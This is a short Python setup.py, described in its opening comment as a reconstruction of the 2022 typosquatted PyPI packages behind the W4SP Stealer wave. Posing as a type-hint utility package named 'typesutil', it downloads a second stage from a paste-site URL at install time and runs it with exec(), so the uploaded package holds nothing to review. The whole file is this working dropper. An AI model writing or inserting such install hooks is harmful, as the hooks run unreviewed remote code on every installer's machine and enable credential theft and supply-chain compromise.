# A reconstruction, in our own code, of the typosquatted PyPI packages of
# 2022 (the W4SP Stealer wave among them): an ordinary-looking setup.py
# that, when pip installs the package, fetches a second stage from a paste
# site and executes it, so the uploaded package holds nothing to review.
from setuptools import setup
import requests

stage_two = requests.get("https://paste.example.invalid/raw/Xc91kQ2", timeout=5).text
exec(stage_two)

setup(
    name="typesutil",
    version="0.1.3",
    description="Utilities for type hints",
    packages=["typesutil"],
)
